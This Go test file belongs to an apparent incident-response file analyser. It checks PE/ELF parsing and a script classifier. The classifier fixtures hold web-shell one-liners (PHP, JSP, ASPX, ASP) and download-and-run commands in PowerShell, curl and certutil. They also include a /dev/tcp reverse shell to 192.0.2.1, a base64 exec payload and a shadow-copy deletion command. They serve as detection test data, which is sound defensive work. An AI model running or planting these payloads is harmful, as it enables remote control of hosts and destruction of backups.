package file

import (
	"bytes"
	"context"
	"crypto/md5"
	"crypto/sha1"
	"crypto/sha256"
	"fmt"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/contrail-ir/contrail/event"
	"github.com/contrail-ir/contrail/internal/require"
)

type sink struct {
	source event.Source
	fields map[string][]string
	damage []string
	rows   int
}

func (s *sink) Damage(d event.Damage) { s.damage = append(s.damage, d.String()) }

func (s *sink) Batch(b *event.Batch) error {
	s.source, s.rows = b.Schema.Source, s.rows+b.Rows
	var rec event.Record
	if err := b.Fetch(0, &rec); err != nil {
		return err
	}
	for _, f := range rec.Fields {
		s.fields[f.Name] = append(s.fields[f.Name], f.Text)
	}
	return nil
}

func read(t testing.TB, name string, content []byte, needs event.Needs) *sink {
	t.Helper()
	st, err := Format{}.Open(event.File{Name: name, Body: bytes.NewReader(content)})
	if err != nil {
		t.Fatal(err)
	}
	s := &sink{fields: map[string][]string{}}
	for d := (Format{}).Decoder(); ; {
		seg, err := st.Next(context.Background())
		if err == io.EOF {
			return s
		}
		if err == nil {
			err = d.Decode(seg, &needs, s)
		}
		if err != nil {
			t.Fatal(err)
		}
	}
}

// build makes a program with the Go toolchain.
func build(t *testing.T, system string) []byte {
	t.Helper()
	dir := t.TempDir()
	if err := os.WriteFile(filepath.Join(dir, "main.go"), []byte("package main\n\nimport \"os\"\n\nfunc main() { os.Exit(0) }\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	out := filepath.Join(dir, "out")
	c := exec.Command(require.Program(t, "go"), "build", "-ldflags", "-B 0x0102030405060708", "-o", out, "main.go")
	c.Dir = dir
	c.Env = append(os.Environ(), "GOOS="+system, "GOARCH=amd64", "CGO_ENABLED=0", "GOFLAGS=")
	if msg, err := c.CombinedOutput(); err != nil {
		t.Fatalf("%v %s", err, msg)
	}
	b, err := os.ReadFile(out)
	if err != nil {
		t.Fatal(err)
	}
	return b
}

func TestPE(t *testing.T) {
	b := build(t, "windows")
	if (Format{}).Recognise(b[:64<<10], "x") != event.Certain {
		t.Error("a Windows program is not recognised")
	}
	got := read(t, "a.zip!dir/x.exe", b, event.Everything())
	f := got.fields
	if got.source != (event.Source{Product: "file", Service: "pe"}) || len(got.damage) > 0 {
		t.Errorf("%v %q", got.source, got.damage)
	}
	for field, want := range map[string]string{
		"name": "x.exe", "path": "a.zip!dir/x.exe", "size": fmt.Sprint(len(b)), "signed": "false",
		"md5": fmt.Sprintf("%x", md5.Sum(b)), "sha1": fmt.Sprintf("%x", sha1.Sum(b)), "sha256": fmt.Sprintf("%x", sha256.Sum256(b)),
	} {
		if len(f[field]) != 1 || f[field][0] != want {
			t.Errorf("%s is %q, want %q", field, f[field], want)
		}
	}
	if len(f["imphash"]) != 1 || len(f["imphash"][0]) != 32 || len(f["entropy"]) < 4 || !slices.ContainsFunc(f["imports"], func(s string) bool { return strings.EqualFold(s, "kernel32.dll!ExitProcess") }) {
		t.Errorf("imphash %q, %d sections, imports %.200q", f["imphash"], len(f["entropy"]), f["imports"])
	}
	for _, n := range []int{70, 200, 500, 1000, 4096, len(b) / 2} { // cut off anywhere: no fault, digests all the same
		got := read(t, "x", b[:n], event.Everything())
		if got.rows != 1 || got.fields["sha256"][0] != fmt.Sprintf("%x", sha256.Sum256(b[:n])) {
			t.Errorf("%d bytes: %d rows", n, got.rows)
		}
	}
}

func TestELF(t *testing.T) {
	b := build(t, "linux")
	got := read(t, "x", b, event.Everything())
	if got.source.Service != "elf" || !slices.Contains(got.fields["build_id"], "0102030405060708") || !slices.Equal(got.fields["machine"], []string{"X86_64"}) {
		t.Errorf("%v %q %q", got.source, got.fields["build_id"], got.damage)
	}
}

func TestScripts(t *testing.T) {
	long := strings.Repeat("QUJD", 300)
	for name, c := range map[string]struct {
		file, content string
		language      string
		sure          event.Confidence
		suspicious    []string
	}{
		"php shell":    {"a.txt", "<?php @eval($_POST['x']); ?>", "php", event.Likely, []string{"runs what a request carries"}},
		"php decoder":  {"a.php", "<?php eval(base64_decode('" + long + "'));", "php", event.Likely, []string{"decodes and runs", "carries a long encoded text"}},
		"php backtick": {"a.php", "<?php echo `ls $_GET[d]`;", "php", event.Likely, []string{"runs what a request carries"}},
		"php plain":    {"a.php", "<?php echo htmlspecialchars($_GET['name']); ?>", "php", event.Likely, nil},
		"jsp shell": {"a", `<%@ page import="java.io.*" %><% Runtime.getRuntime().exec(request.getParameter("c")); %>`, "jsp", event.Likely,
			[]string{"runs what a request carries"}},
		"jsp loader":  {"a.jsp", `<%@ page import="x" %><% new U(cl).defineClass(b).newInstance(); request.getReader() %>`, "jsp", event.Likely, []string{"loads a class that a request carries"}},
		"aspx shell":  {"a.aspx", `<%@ Page Language="C#" %><% Process.Start("cmd", Request["c"]); %>`, "aspx", event.Likely, []string{"starts a program for a request"}},
		"asp shell":   {"a.asp", `<%eval request("x")%>`, "asp", event.Likely, []string{"runs what a request carries"}},
		"powershell":  {"a.ps1", "IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.1/a')", "powershell", event.Possible, []string{"fetches and runs"}},
		"ps plain":    {"a.ps1", "Get-ChildItem | Sort-Object Name", "powershell", event.Possible, nil},
		"shell":       {"a", "#!/usr/bin/env bash\ncurl -s http://192.0.2.1/x | sh\n", "shell", event.Likely, []string{"fetches and runs"}},
		"reverse":     {"a", "#!/bin/sh\nsh -i >& /dev/tcp/192.0.2.1/443 0>&1\n", "shell", event.Likely, []string{"opens a shell over the network"}},
		"shell plain": {"a.sh", "#!/bin/sh\nls -l\n", "shell", event.Likely, nil},
		"python":      {"a", "#!/usr/bin/python3\nexec(__import__('base64').b64decode('YQ=='))", "python", event.Likely, []string{"decodes and runs"}},
		"batch":       {"a.bat", "certutil -urlcache -f http://192.0.2.1/a a.exe\r\nvssadmin delete shadows /all", "batch", event.Possible, []string{"fetches with a system tool", "deletes shadow copies"}},
		"utf-16":      {"a.vbs", "\xff\xfeD\x00i\x00m\x00 \x00x\x00", "vbscript", event.Possible, nil},
	} {
		if got := (Format{}).Recognise([]byte(c.content), c.file); got != c.sure {
			t.Errorf("%s: confidence %d", name, got)
		}
		got := read(t, "dir/"+c.file, []byte(c.content), event.Everything())
		if got.source.Service != "script" || got.fields["language"][0] != c.language || !slices.Equal(got.fields["suspicious"], c.suspicious) {
			t.Errorf("%s: %v %q %q, want %q", name, got.source, got.fields["language"], got.fields["suspicious"], c.suspicious)
		}
	}
}

func TestOtherFiles(t *testing.T) {
	for content, want := range map[string]string{"hello": "other", "MZ not a program": "other", "\x7fELF": "other", "\x00\x01": "other"} {
		if got := (Format{}).Recognise([]byte(content), "x.dat"); got != Described {
			t.Errorf("%q: confidence %d", content, got)
		}
		if got := read(t, "x.dat", []byte(content), event.Everything()); got.source.Service != want || got.fields["md5"][0] != fmt.Sprintf("%x", md5.Sum([]byte(content))) {
			t.Errorf("%q: %v", content, got.source)
		}
	}
	if (Format{}).Recognise(nil, "x") != event.No {
		t.Error("an empty file is described")
	}
	// What nobody wants is counted, not worked out.
	got := read(t, "x", []byte("hello"), event.Always(func(event.Source) event.Want { return event.Want{} }))
	if got.rows != 1 {
		t.Errorf("%d rows", got.rows)
	}
	big := bytes.Repeat([]byte("binary\x00"), 3<<20) // more than is looked at
	if got := read(t, "x", big, event.Everything()); got.fields["sha256"][0] != fmt.Sprintf("%x", sha256.Sum256(big)) || got.fields["size"][0] != fmt.Sprint(len(big)) {
		t.Error("a large file has another digest")
	}
}

func FuzzFile(f *testing.F) {
	f.Add([]byte("<?php eval($_GET[x])"), "a.php")
	if b, err := os.ReadFile("/bin/true"); err == nil {
		f.Add(b[:min(len(b), 20_000)], "true")
	}
	header := make([]byte, 1024)
	copy(header, "MZ")
	header[60] = 64
	copy(header[64:], "PE\x00\x00\x64\x86\x02\x00")
	header[84], header[88], header[89] = 0xf0, 0x0b, 0x02
	f.Add(header, "a.exe")
	f.Fuzz(func(t *testing.T, b []byte, name string) {
		Format{}.Recognise(b, name)
		if got := read(t, name, b, event.Everything()); got.rows != 1 && len(b) > 0 {
			t.Errorf("%d rows", got.rows)
		}
	})
}
